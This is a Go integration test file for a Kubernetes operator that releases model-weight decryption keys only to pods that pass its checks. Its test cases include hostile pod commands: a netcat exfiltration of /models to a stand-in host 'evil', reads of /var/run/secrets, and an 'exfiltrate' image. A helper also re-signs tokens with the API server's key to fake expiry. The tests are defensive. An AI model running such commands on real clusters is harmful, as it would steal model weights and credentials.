package protectedmodel

import (
	"context"
	"crypto/ecdsa"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http/httptest"
	"os"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/log/zap"

	mlv1alpha1 "github.com/modelguard/modelguard/api/v1alpha1"
	"github.com/modelguard/modelguard/internal/builder"
	"github.com/modelguard/modelguard/internal/keyrelease"
	"github.com/modelguard/modelguard/internal/keys"
	"github.com/modelguard/modelguard/test/builders"
)

// releaseFixture is a model whose Deployment exists, a ModelKey over the
// same KEK in the operator's namespace, and a verifier for it. The tests
// play the ReplicaSet controller and the kubelet: they create the pods and
// write their status, and get the pods' tokens from the real TokenRequest
// API, as the kubelet does for a projected token.
type releaseFixture struct {
	pm       *mlv1alpha1.ProtectedModel
	key      sealedKey
	d        *appsv1.Deployment
	rs       *appsv1.ReplicaSet
	modelKey string
	verifier *keyrelease.ProtectedModelVerifier
}

func newReleaseFixture(t *testing.T) *releaseFixture {
	t.Helper()
	ns := newNamespace(t)
	pm, key := protectedModel(t, builders.MakeProtectedModel("m", ns))
	f := &releaseFixture{pm: pm, key: key, d: getDeployment(t, pm), modelKey: "release-" + ns}
	f.rs = replicaSetOf(t, f.d)
	createOperatorSecret(t, f.modelKey, "kek", []byte(keys.EncodeDEK(key.KEK)))
	createModelKey(t, f.modelKey, secretProvider(f.modelKey, "kek"), nil)
	waitForModelKey(t, f.modelKey, metav1.ConditionTrue, mlv1alpha1.ReasonSelfTestPassed)
	f.verifier = &keyrelease.ProtectedModelVerifier{
		Reader: k8s, TokenReviews: k8s,
		Facts: func() builder.ProtectedModelFacts {
			return builder.ProtectedModelFacts{UnsealImage: unsealImage, KeyRelease: testKeyRelease}
		},
		ModelKeyFor: func(*mlv1alpha1.ProtectedModel) (string, error) { return f.modelKey, nil },
	}
	return f
}

// startingPod creates a pod with the given spec and controller (none when
// nil) whose unseal init container runs and whose server waits, as the
// kubelet reports a pod at the moment it asks for its key.
func (f *releaseFixture) startingPod(t *testing.T, name string, owner client.Object, spec corev1.PodSpec) *corev1.Pod {
	t.Helper()
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Namespace: f.pm.Namespace, Name: name,
			Labels: f.d.Spec.Template.Labels, Annotations: f.d.Spec.Template.Annotations},
		Spec: spec,
	}
	if owner != nil {
		pod.OwnerReferences = []metav1.OwnerReference{*metav1.NewControllerRef(owner, appsv1.SchemeGroupVersion.WithKind("ReplicaSet"))}
	}
	ctx := context.Background()
	if err := k8s.Create(ctx, pod); err != nil {
		t.Fatalf("creating pod %s: %v", name, err)
	}
	pod.Status = unsealRunningStatus(name, 0)
	if err := k8s.Status().Update(ctx, pod); err != nil {
		t.Fatalf("writing pod %s status: %v", name, err)
	}
	return pod
}

func unsealRunningStatus(pod string, restarts int32) corev1.PodStatus {
	return corev1.PodStatus{
		Phase: corev1.PodPending,
		InitContainerStatuses: []corev1.ContainerStatus{{
			Name: builder.UnsealContainerName, Image: unsealImage, RestartCount: restarts,
			ContainerID: fmt.Sprintf("containerd://%s-%d", pod, restarts),
			State:       corev1.ContainerState{Running: &corev1.ContainerStateRunning{StartedAt: metav1.Now()}},
		}},
		ContainerStatuses: []corev1.ContainerStatus{{
			Name: mlv1alpha1.ContainerServer, Image: builders.DefaultServerImage, Started: ptr.To(false),
			State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "PodInitializing"}},
		}},
	}
}

// token asks the real TokenRequest API for a token of the pod's
// ServiceAccount, bound to the pod unless unbound.
func token(t *testing.T, pod *corev1.Pod, audience string, unbound bool) keyrelease.Token {
	t.Helper()
	sa := &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: pod.Namespace, Name: pod.Spec.ServiceAccountName}}
	req := &authenticationv1.TokenRequest{Spec: authenticationv1.TokenRequestSpec{
		Audiences: []string{audience}, ExpirationSeconds: ptr.To[int64](600),
	}}
	if !unbound {
		req.Spec.BoundObjectRef = &authenticationv1.BoundObjectReference{Kind: "Pod", APIVersion: "v1", Name: pod.Name, UID: pod.UID}
	}
	if err := k8s.SubResource("token").Create(context.Background(), sa, req); err != nil {
		t.Fatalf("TokenRequest for pod %s: %v", pod.Name, err)
	}
	return keyrelease.Token(req.Status.Token)
}

func (f *releaseFixture) claim(pod *corev1.Pod, tok keyrelease.Token) keyrelease.Claim {
	return keyrelease.Claim{
		Operation: keyrelease.OperationRelease, Token: tok,
		Model:  keyrelease.ModelRef{Kind: keyrelease.KindProtectedModel, Namespace: f.pm.Namespace, Name: f.pm.Name},
		PodUID: string(pod.UID), ModelDigest: f.pm.Spec.Weights.Digest,
	}
}

// generatedSpec is the pod spec of the model's Deployment, as the
// ReplicaSet controller copies it into a pod.
func (f *releaseFixture) generatedSpec(edit func(*corev1.PodSpec)) corev1.PodSpec {
	spec := *f.d.Spec.Template.Spec.DeepCopy()
	if edit != nil {
		edit(&spec)
	}
	return spec
}

// tenantReplicaSet is a ReplicaSet a tenant with `edit` creates, with a
// controller reference to the managed Deployment (or, with controller
// false, a plain owner reference), and template as its pod template.
func (f *releaseFixture) tenantReplicaSet(t *testing.T, name string, controller bool, spec corev1.PodSpec) *appsv1.ReplicaSet {
	t.Helper()
	ref := metav1.NewControllerRef(f.d, appsv1.SchemeGroupVersion.WithKind("Deployment"))
	ref.Controller = ptr.To(controller)
	rs := &appsv1.ReplicaSet{
		ObjectMeta: metav1.ObjectMeta{Namespace: f.pm.Namespace, Name: name, Labels: f.d.Spec.Template.Labels,
			OwnerReferences: []metav1.OwnerReference{*ref}},
		Spec: appsv1.ReplicaSetSpec{Replicas: ptr.To[int32](1), Selector: f.d.Spec.Selector,
			Template: corev1.PodTemplateSpec{ObjectMeta: f.d.Spec.Template.ObjectMeta, Spec: spec}},
	}
	if err := k8s.Create(context.Background(), rs); err != nil {
		t.Fatalf("creating tenant ReplicaSet: %v", err)
	}
	return rs
}

func withSidecar(s *corev1.PodSpec) {
	s.Containers = append(s.Containers, corev1.Container{Name: "sidecar", Image: "tenant/exfiltrate:1", Command: []string{"sh", "-c", "cat /models/*"},
		VolumeMounts: s.Containers[0].VolumeMounts})
}

// expired re-signs a token the API server issued with the API server's own
// ServiceAccount signing key, with its validity moved into the past:
// TokenRequest refuses expirations under 10 minutes, and a test should not
// wait that long. The header (algorithm, key ID) is kept.
func expired(t *testing.T, tok keyrelease.Token) keyrelease.Token {
	t.Helper()
	parts := strings.Split(string(tok), ".")
	if len(parts) != 3 {
		t.Fatalf("the API server's token has %d parts", len(parts))
	}
	payload, err := base64.RawURLEncoding.DecodeString(parts[1])
	if err != nil {
		t.Fatal(err)
	}
	claims := map[string]any{}
	if err := json.Unmarshal(payload, &claims); err != nil {
		t.Fatal(err)
	}
	now := time.Now().Unix()
	claims["iat"], claims["nbf"], claims["exp"] = now-1200, now-1200, now-600
	payload, err = json.Marshal(claims)
	if err != nil {
		t.Fatal(err)
	}
	pemData, err := os.ReadFile(env.ServiceAccountSigningKeyFile())
	if err != nil {
		t.Fatal(err)
	}
	block, _ := pem.Decode(pemData)
	parsed, err := x509.ParsePKCS8PrivateKey(block.Bytes)
	if err != nil {
		t.Fatal(err)
	}
	key, ok := parsed.(*ecdsa.PrivateKey)
	if !ok {
		t.Fatalf("the API server signs ServiceAccount tokens with a %T, not an ECDSA key", parsed)
	}
	input := parts[0] + "." + base64.RawURLEncoding.EncodeToString(payload)
	digest := sha256.Sum256([]byte(input))
	r, s, err := ecdsa.Sign(rand.Reader, key, digest[:])
	if err != nil {
		t.Fatal(err)
	}
	sig := append(r.FillBytes(make([]byte, 32)), s.FillBytes(make([]byte, 32))...)
	return keyrelease.Token(input + "." + base64.RawURLEncoding.EncodeToString(sig))
}

// TestKeyReleaseDecisions runs the release checks against the real API
// server: real TokenReview of real TokenRequest tokens, real pods,
// ReplicaSets and Deployments read back by UID.
func TestKeyReleaseDecisions(t *testing.T) {
	f := newReleaseFixture(t)
	ctx := context.Background()
	tests := []struct {
		name string
		// setup creates what the case needs and returns the claim.
		setup       func(t *testing.T) keyrelease.Claim
		wantAllowed bool
		wantReason  string
		wantMessage []string
	}{{
		name: "the generated pod of the managed ReplicaSet",
		setup: func(t *testing.T) keyrelease.Claim {
			pod := f.startingPod(t, "generated", f.rs, f.generatedSpec(nil))
			return f.claim(pod, token(t, pod, keyrelease.Audience, false))
		},
		wantAllowed: true, wantReason: mlv1alpha1.ReasonKeyReleased,
	}, {
		name: "a look-alike pod with the generated spec but no owner",
		setup: func(t *testing.T) keyrelease.Claim {
			pod := f.startingPod(t, "lookalike", nil, f.generatedSpec(nil))
			return f.claim(pod, token(t, pod, keyrelease.Audience, false))
		},
		wantReason: mlv1alpha1.ReasonOwnerChainBroken, wantMessage: []string{"not controlled by a ReplicaSet"},
	}, {
		name: "same ServiceAccount, labels and volumes, another spec",
		setup: func(t *testing.T) keyrelease.Claim {
			pod := f.startingPod(t, "copycat", f.rs, f.generatedSpec(func(s *corev1.PodSpec) {
				s.Containers[0].Image = "tenant/exfiltrate:1"
				s.InitContainers[0].Command = []string{"sh", "-c", "cat /var/run/secrets/*"}
			}))
			return f.claim(pod, token(t, pod, keyrelease.Audience, false))
		},
		wantReason: mlv1alpha1.ReasonPodSpecMismatch,
		wantMessage: []string{"pod spec differs from the generated template", `init container "unseal": command differs`,
			`container "server": image differs`},
	}, {
		name: "a tenant ReplicaSet controlled by the Deployment, with a sidecar",
		setup: func(t *testing.T) keyrelease.Claim {
			rs := f.tenantReplicaSet(t, "tenant-sidecar", true, f.generatedSpec(withSidecar))
			pod := f.startingPod(t, "tenant-sidecar-pod", rs, rs.Spec.Template.Spec)
			return f.claim(pod, token(t, pod, keyrelease.Audience, false))
		},
		wantReason: mlv1alpha1.ReasonPodSpecMismatch, wantMessage: []string{`container "sidecar" added`},
	}, {
		name: "a tenant ReplicaSet with a plain owner reference to the Deployment",
		setup: func(t *testing.T) keyrelease.Claim {
			rs := f.tenantReplicaSet(t, "tenant-owned", false, f.generatedSpec(nil))
			pod := f.startingPod(t, "tenant-owned-pod", rs, rs.Spec.Template.Spec)
			return f.claim(pod, token(t, pod, keyrelease.Audience, false))
		},
		wantReason: mlv1alpha1.ReasonOwnerChainBroken, wantMessage: []string{"ReplicaSet tenant-owned is not controlled by the model's Deployment m"},
	}, {
		// A controller reference is forgeable, so the chain alone cannot
		// tell this ReplicaSet from the Deployment controller's; the spec
		// comparison is what stops a tenant's pod. This one runs exactly the
		// generated pod, so the key reaches only the operator's own unseal
		// code, as in a pod of the managed ReplicaSet. The admission guard
		// (issue 13) denies creating such a ReplicaSet at all.
		name: "a tenant ReplicaSet controlled by the Deployment, with the generated template",
		setup: func(t *testing.T) keyrelease.Claim {
			rs := f.tenantReplicaSet(t, "tenant-exact", true, f.generatedSpec(nil))
			pod := f.startingPod(t, "tenant-exact-pod", rs, rs.Spec.Template.Spec)
			return f.claim(pod, token(t, pod, keyrelease.Audience, false))
		},
		wantAllowed: true, wantReason: mlv1alpha1.ReasonKeyReleased,
	}, {
		name: "an edited template: sidecar added",
		setup: func(t *testing.T) keyrelease.Claim {
			pod := f.startingPod(t, "sidecar", f.rs, f.generatedSpec(withSidecar))
			return f.claim(pod, token(t, pod, keyrelease.Audience, false))
		},
		wantReason:  mlv1alpha1.ReasonPodSpecMismatch,
		wantMessage: []string{`pod spec differs from the generated template: container "sidecar" added`},
	}, {
		name: "an edited template: command changed",
		setup: func(t *testing.T) keyrelease.Claim {
			pod := f.startingPod(t, "command", f.rs, f.generatedSpec(func(s *corev1.PodSpec) {
				s.Containers[0].Command = []string{"sh", "-c", "tar c /models | nc evil 80"}
			}))
			return f.claim(pod, token(t, pod, keyrelease.Audience, false))
		},
		wantReason:  mlv1alpha1.ReasonPodSpecMismatch,
		wantMessage: []string{`pod spec differs from the generated template: container "server": command differs`},
	}, {
		name: "an ephemeral container",
		setup: func(t *testing.T) keyrelease.Claim {
			pod := f.startingPod(t, "debugged", f.rs, f.generatedSpec(nil))
			pod.Spec.EphemeralContainers = []corev1.EphemeralContainer{{EphemeralContainerCommon: corev1.EphemeralContainerCommon{
				Name: "debugger", Image: "busybox", ImagePullPolicy: corev1.PullIfNotPresent, TerminationMessagePolicy: corev1.TerminationMessageReadFile}}}
			if err := k8s.SubResource("ephemeralcontainers").Update(ctx, pod); err != nil {
				t.Fatalf("adding an ephemeral container: %v", err)
			}
			return f.claim(pod, token(t, pod, keyrelease.Audience, false))
		},
		wantReason: mlv1alpha1.ReasonEphemeralContainers, wantMessage: []string{`ephemeral containers "debugger"`},
	}, {
		name: "a token for another audience",
		setup: func(t *testing.T) keyrelease.Claim {
			pod := f.startingPod(t, "audience", f.rs, f.generatedSpec(nil))
			return f.claim(pod, token(t, pod, "https://kubernetes.default.svc", false))
		},
		wantReason: mlv1alpha1.ReasonTokenRejected, wantMessage: []string{"not accepted for audience modelguard-key-release"},
	}, {
		name: "an expired token",
		setup: func(t *testing.T) keyrelease.Claim {
			pod := f.startingPod(t, "expired", f.rs, f.generatedSpec(nil))
			return f.claim(pod, expired(t, token(t, pod, keyrelease.Audience, false)))
		},
		wantReason: mlv1alpha1.ReasonTokenRejected, wantMessage: []string{"not accepted", "expired"},
	}, {
		name: "a token of a deleted pod",
		setup: func(t *testing.T) keyrelease.Claim {
			pod := f.startingPod(t, "deleted", f.rs, f.generatedSpec(nil))
			tok := token(t, pod, keyrelease.Audience, false)
			if err := k8s.Delete(ctx, pod, client.GracePeriodSeconds(0)); err != nil {
				t.Fatal(err)
			}
			eventually(t, "the pod is gone", func() error {
				if err := k8s.Get(ctx, client.ObjectKeyFromObject(pod), &corev1.Pod{}); err == nil {
					return fmt.Errorf("pod still exists")
				}
				return nil
			})
			return f.claim(pod, tok)
		},
		wantReason: mlv1alpha1.ReasonTokenRejected, wantMessage: []string{"not accepted"},
	}, {
		name: "a token not bound to a pod",
		setup: func(t *testing.T) keyrelease.Claim {
			pod := f.startingPod(t, "unbound", f.rs, f.generatedSpec(nil))
			return f.claim(pod, token(t, pod, keyrelease.Audience, true))
		},
		wantReason: mlv1alpha1.ReasonTokenRejected, wantMessage: []string{"is not bound to a pod"},
	}, {
		name: "a request that names another pod's UID",
		setup: func(t *testing.T) keyrelease.Claim {
			pod := f.startingPod(t, "other-uid", f.rs, f.generatedSpec(nil))
			c := f.claim(pod, token(t, pod, keyrelease.Audience, false))
			c.PodUID = "00000000-0000-0000-0000-000000000000"
			return c
		},
		wantReason: mlv1alpha1.ReasonTokenRejected, wantMessage: []string{"is not the token's"},
	}, {
		name: "the server container has started",
		setup: func(t *testing.T) keyrelease.Claim {
			pod := f.startingPod(t, "started", f.rs, f.generatedSpec(nil))
			pod.Status.InitContainerStatuses[0].State = corev1.ContainerState{Terminated: &corev1.ContainerStateTerminated{ExitCode: 0}}
			pod.Status.ContainerStatuses[0].State = corev1.ContainerState{Running: &corev1.ContainerStateRunning{}}
			pod.Status.ContainerStatuses[0].Started = ptr.To(true)
			if err := k8s.Status().Update(ctx, pod); err != nil {
				t.Fatal(err)
			}
			return f.claim(pod, token(t, pod, keyrelease.Audience, false))
		},
		wantReason: mlv1alpha1.ReasonUnsealNotRunning, wantMessage: []string{`the server container has already started`},
	}, {
		name: "a digest other than the spec's",
		setup: func(t *testing.T) keyrelease.Claim {
			pod := f.startingPod(t, "digest", f.rs, f.generatedSpec(nil))
			c := f.claim(pod, token(t, pod, keyrelease.Audience, false))
			c.ModelDigest = "sha256:" + strings.Repeat("ab", 32)
			return c
		},
		wantReason: mlv1alpha1.ReasonDigestMismatch, wantMessage: []string{"is not spec.weights.digest " + f.pm.Spec.Weights.Digest},
	}, {
		name: "a ModelKey that does not select the namespace",
		setup: func(t *testing.T) keyrelease.Claim {
			name := f.modelKey + "-other-team"
			createModelKey(t, name, secretProvider(f.modelKey, "kek"), &metav1.LabelSelector{MatchLabels: map[string]string{"team": "other"}})
			waitForModelKey(t, name, metav1.ConditionTrue, mlv1alpha1.ReasonSelfTestPassed)
			f.useModelKey(t, name)
			pod := f.startingPod(t, "not-permitted", f.rs, f.generatedSpec(nil))
			return f.claim(pod, token(t, pod, keyrelease.Audience, false))
		},
		wantReason: mlv1alpha1.ReasonKeyNotPermitted, wantMessage: []string{"does not select namespace " + f.pm.Namespace},
	}, {
		name: "a ModelKey that is not Ready",
		setup: func(t *testing.T) keyrelease.Claim {
			name := f.modelKey + "-broken"
			createModelKey(t, name, secretProvider(f.modelKey+"-absent", "kek"), nil)
			waitForModelKey(t, name, metav1.ConditionFalse, mlv1alpha1.ReasonKeySecretNotFound)
			f.useModelKey(t, name)
			pod := f.startingPod(t, "not-ready", f.rs, f.generatedSpec(nil))
			return f.claim(pod, token(t, pod, keyrelease.Audience, false))
		},
		wantReason: mlv1alpha1.ReasonModelKeyNotReady, wantMessage: []string{"is not Ready: SecretNotFound"},
	}}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			claim := tc.setup(t)
			d, err := f.verifier.Verify(ctx, claim)
			if err != nil {
				t.Fatalf("Verify: %v", err)
			}
			t.Logf("%s: %s", d.Reason, d.Message)
			assertDecision(t, f, claim, d, tc.wantAllowed, tc.wantReason, tc.wantMessage...)
		})
	}
}

// useModelKey makes the verifier use ModelKey name until the test ends.
func (f *releaseFixture) useModelKey(t *testing.T, name string) {
	previous := f.modelKey
	f.modelKey = name
	t.Cleanup(func() { f.modelKey = previous })
}

func assertDecision(t *testing.T, f *releaseFixture, claim keyrelease.Claim, d keyrelease.Decision, allowed bool, reason string, parts ...string) {
	t.Helper()
	if d.Allowed != allowed || d.Reason != reason {
		t.Fatalf("decision is allowed=%t reason %s (%s), want allowed=%t reason %s", d.Allowed, d.Reason, d.Message, allowed, reason)
	}
	for _, p := range append(parts, claim.Model.String()) {
		if !strings.Contains(d.Message, p) {
			t.Errorf("message %q does not mention %q", d.Message, p)
		}
	}
	if d.Pod.Name != "" && !strings.Contains(d.Message, d.Pod.String()) {
		t.Errorf("message %q does not name pod %s", d.Message, d.Pod)
	}
	if allowed && (d.PodUID != claim.PodUID || d.ModelKey != f.modelKey) {
		t.Errorf("allowed for pod UID %s and ModelKey %q, want %s and %q", d.PodUID, d.ModelKey, claim.PodUID, f.modelKey)
	}
	if strings.Contains(d.Message, string(claim.Token)) {
		t.Error("the message quotes the token")
	}
}

// TestKeyIsReleasedOncePerUnsealRun: a second request from the same run of
// the unseal container is refused; a restarted unseal container (a new
// container ID) of the same pod is the one exception.
func TestKeyIsReleasedOncePerUnsealRun(t *testing.T) {
	f := newReleaseFixture(t)
	ctx := context.Background()
	pod := f.startingPod(t, "once", f.rs, f.generatedSpec(nil))
	claim := f.claim(pod, token(t, pod, keyrelease.Audience, false))
	for i, want := range []struct {
		allowed bool
		reason  string
	}{{true, mlv1alpha1.ReasonKeyReleased}, {false, mlv1alpha1.ReasonAlreadyReleased}} {
		d, err := f.verifier.Verify(ctx, claim)
		if err != nil {
			t.Fatal(err)
		}
		assertDecision(t, f, claim, d, want.allowed, want.reason)
		t.Logf("request %d: %s", i+1, d.Message)
	}
	pod.Status = unsealRunningStatus(pod.Name, 1)
	if err := k8s.Status().Update(ctx, pod); err != nil {
		t.Fatal(err)
	}
	d, err := f.verifier.Verify(ctx, claim)
	if err != nil {
		t.Fatal(err)
	}
	assertDecision(t, f, claim, d, true, mlv1alpha1.ReasonKeyReleased)
	if !strings.Contains(logs.String(), "Releasing the data key again to a restarted unseal container") {
		t.Error("the release to a restarted unseal container was not logged")
	}
	d, err = f.verifier.Verify(ctx, claim)
	if err != nil {
		t.Fatal(err)
	}
	assertDecision(t, f, claim, d, false, mlv1alpha1.ReasonAlreadyReleased)
}

// TestKeyReleaseServerWithTheVerifier runs the whole key-release endpoint
// over loopback TLS: the real client in place of the unseal container, the
// server with this verifier and the ModelKey's provider, and the real
// TokenReview. The pod gets the bundle's data key; nothing else does.
func TestKeyReleaseServerWithTheVerifier(t *testing.T) {
	f := newReleaseFixture(t)
	ctx := context.Background()
	keysOfModelKeys := keyrelease.ProviderKeys(func(ctx context.Context, name string) (keys.Provider, error) {
		mk := &mlv1alpha1.ModelKey{}
		if err := k8s.Get(ctx, client.ObjectKey{Name: name}, mk); err != nil {
			return nil, err
		}
		return keys.ModelKeyProvider(ctx, mk, operatorNamespace, func(ctx context.Context, ns, name string) (*corev1.Secret, error) {
			s := &corev1.Secret{}
			return s, k8s.Get(ctx, client.ObjectKey{Namespace: ns, Name: name}, s)
		})
	})
	var outcomes []keyrelease.Outcome
	serverLog := &syncBuffer{}
	server, err := keyrelease.NewServer(keyrelease.ServerOptions{Verifier: f.verifier, Keys: keysOfModelKeys,
		Log:       zap.New(zap.WriteTo(serverLog), zap.UseDevMode(true)),
		OnOutcome: func(_ context.Context, o keyrelease.Outcome) { outcomes = append(outcomes, o) }})
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewUnstartedServer(server)
	srv.TLS = &tls.Config{MinVersion: tls.VersionTLS13}
	srv.StartTLS()
	defer srv.Close()
	roots := x509.NewCertPool()
	roots.AddCert(srv.Certificate())
	c, err := keyrelease.NewClient(keyrelease.ClientOptions{URL: srv.URL, RootCAs: roots,
		Backoff: keyrelease.Backoff{Initial: 10 * time.Millisecond, Max: 10 * time.Millisecond, MaxElapsed: 100 * time.Millisecond}})
	if err != nil {
		t.Fatal(err)
	}

	pod := f.startingPod(t, "over-tls", f.rs, f.generatedSpec(nil))
	tok := token(t, pod, keyrelease.Audience, false)
	params := keyrelease.ReleaseParams{
		Token:  func() (keyrelease.Token, error) { return tok, nil },
		Model:  keyrelease.ModelRef{Kind: keyrelease.KindProtectedModel, Namespace: f.pm.Namespace, Name: f.pm.Name},
		PodUID: string(pod.UID), ModelDigest: f.pm.Spec.Weights.Digest,
		Bundle: keyrelease.BundleRef{FormatVersion: f.key.Resolved.Version, BundleID: f.key.Resolved.BundleID},
		Key:    f.key.Resolved.Key,
	}
	dek, err := c.Release(ctx, params)
	if err != nil {
		t.Fatalf("release over TLS: %v", err)
	}
	if string(dek) != string(f.key.DEK) {
		t.Fatal("the released data key is not the bundle's")
	}
	// The same unseal run asking again is refused, over the wire too.
	if _, err := c.Release(ctx, params); err == nil || !strings.Contains(err.Error(), mlv1alpha1.ReasonAlreadyReleased) {
		t.Fatalf("second release: %v, want a refusal %s", err, mlv1alpha1.ReasonAlreadyReleased)
	}
	if len(outcomes) != 2 || outcomes[0].Reason != mlv1alpha1.ReasonKeyReleased || outcomes[0].Pod.Name != pod.Name {
		t.Errorf("outcomes: %+v", outcomes)
	}
	// Neither key nor token in what the server logged, what it reported
	// (the future Events), or the manager's logs.
	reported, err := json.Marshal(outcomes)
	if err != nil {
		t.Fatal(err)
	}
	secrets := map[string][]string{"KEK": secretForms(f.key.KEK), "DEK": secretForms(f.key.DEK), "token": {string(tok)}}
	for where, text := range map[string]string{"server log": serverLog.String(), "outcomes": string(reported), "manager logs": logs.String()} {
		if !strings.Contains(text, pod.Name) && where != "manager logs" {
			t.Errorf("the %s do not name pod %s; the scan would prove nothing", where, pod.Name)
		}
		for what, forms := range secrets {
			for _, form := range forms {
				if strings.Contains(text, form) {
					t.Errorf("the %s contain the %s (a %d-character form)", where, what, len(form))
				}
			}
		}
	}
}

// TestStalledModelGetsNoKey: a model that cannot serve (here its memory
// limit leaves no room for the plaintext) releases no key, even to a pod
// that passes every other check.
func TestStalledModelGetsNoKey(t *testing.T) {
	f := newReleaseFixture(t)
	ctx := context.Background()
	pod := f.startingPod(t, "stalled", f.rs, f.generatedSpec(nil))
	claim := f.claim(pod, token(t, pod, keyrelease.Audience, false))
	pm := f.pm.DeepCopy()
	update(t, pm, func(pm *mlv1alpha1.ProtectedModel) {
		pm.Spec.Server.Resources.Limits = corev1.ResourceList{corev1.ResourceMemory: resource.MustParse("1Mi")}
	})
	waitForCondition(t, pm.Namespace, pm.Name, mlv1alpha1.ConditionStalled, metav1.ConditionTrue, mlv1alpha1.ReasonMemoryTooSmall)
	d, err := f.verifier.Verify(ctx, claim)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("%s: %s", d.Reason, d.Message)
	assertDecision(t, f, claim, d, false, mlv1alpha1.ReasonModelStalled, "the model is stalled: MemoryTooSmall")
}

// TestVerifierWaitsForTheKubeletsLateReport: the unseal container asks for
// its key as soon as it starts, usually before the kubelet reports it
// running. The verifier waits for the report instead of refusing
// (UnsealNotRunning was the first e2e failure on the local cluster), and
// still refuses when the report never comes.
func TestVerifierWaitsForTheKubeletsLateReport(t *testing.T) {
	f := newReleaseFixture(t)
	ctx := context.Background()
	f.verifier.ReportWait = 5 * time.Second
	notYetReported := func(pod *corev1.Pod) {
		t.Helper()
		pod.Status = unsealRunningStatus(pod.Name, 0)
		pod.Status.InitContainerStatuses[0].State = corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "PodInitializing"}}
		pod.Status.InitContainerStatuses[0].ContainerID = ""
		if err := k8s.Status().Update(ctx, pod); err != nil {
			t.Fatal(err)
		}
	}

	t.Run("the report arrives: released", func(t *testing.T) {
		pod := f.startingPod(t, "late", f.rs, f.generatedSpec(nil))
		notYetReported(pod)
		claim := f.claim(pod, token(t, pod, keyrelease.Audience, false))
		go func() {
			time.Sleep(time.Second)
			pod.Status = unsealRunningStatus(pod.Name, 0)
			_ = k8s.Status().Update(ctx, pod)
		}()
		start := time.Now()
		d, err := f.verifier.Verify(ctx, claim)
		if err != nil {
			t.Fatal(err)
		}
		assertDecision(t, f, claim, d, true, mlv1alpha1.ReasonKeyReleased)
		if waited := time.Since(start); waited < time.Second {
			t.Errorf("decided after %s, before the kubelet's report", waited)
		}
	})

	t.Run("the report never arrives: refused", func(t *testing.T) {
		f.verifier.ReportWait = time.Second
		pod := f.startingPod(t, "never", f.rs, f.generatedSpec(nil))
		notYetReported(pod)
		claim := f.claim(pod, token(t, pod, keyrelease.Audience, false))
		d, err := f.verifier.Verify(ctx, claim)
		if err != nil {
			t.Fatal(err)
		}
		assertDecision(t, f, claim, d, false, mlv1alpha1.ReasonUnsealNotRunning, "the unseal init container is not running")
	})
}
